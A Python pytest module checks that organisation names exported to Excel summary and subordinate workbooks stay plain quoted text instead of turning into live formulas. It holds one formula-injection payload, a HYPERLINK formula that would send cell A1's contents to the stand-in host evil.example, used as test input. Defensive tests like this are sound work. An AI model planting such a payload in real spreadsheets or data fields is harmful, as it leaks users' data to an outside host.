"""No text from data becomes a live formula in a workbook the program writes."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.db import Database
from app.services.offices import add_org
from reports.xlsx.subordinates import write_subordinates
from reports.xlsx.summary import write_ledger_summary
from tests.conftest import STREET, TODAY

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'


def formulas(path: Path) -> list[str]:
    """Every <f> element of every sheet: what Excel would compute."""
    with zipfile.ZipFile(path) as z:
        return [
            name
            for name in z.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in z.read(name)
        ]


@pytest.mark.parametrize("write", [write_ledger_summary, write_subordinates])
def test_a_subordinate_named_like_a_formula_stays_text(db: Database, tmp_path: Path, write) -> None:  # type: ignore[no-untyped-def]
    with db.sessions.begin() as s:
        add_org(s, code="340603010003", name=EVIL, level="community", parent_code=STREET)
    out = tmp_path / "汇总.xlsx"
    with db.reader() as s:
        write(s, out, today=TODAY)
    assert formulas(out) == []
    cells = [c for row in load_workbook(out).active.iter_rows() for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
